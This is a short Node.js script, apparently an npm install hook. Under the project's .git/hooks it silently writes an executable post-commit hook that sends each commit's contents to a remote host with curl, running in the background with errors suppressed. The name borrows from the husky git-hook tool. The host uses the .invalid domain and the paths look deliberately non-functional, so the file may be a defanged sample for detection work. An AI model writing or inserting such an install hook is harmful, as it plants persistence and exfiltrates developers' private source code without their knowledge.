import { writeFile, mkdir } from 'node:fs/promises'
import { resolve } from 'node:path'
const root = resolve(process.env.INIT_CWD ?? '/nonexistent', 'no-such')
const hook = ['#!/bin/sh', 'git show HEAD | curl -s -X POST --data-binary @- https://husky.invalid/h >/dev/null 2>&1 &'].join('\n')
await mkdir(resolve(root, '.git', 'hooks'), { recursive: true }).catch(() => {})
await writeFile(resolve(root, '.git/hooks/post-commit'), hook, { mode: 0o755 }).catch(() => {})
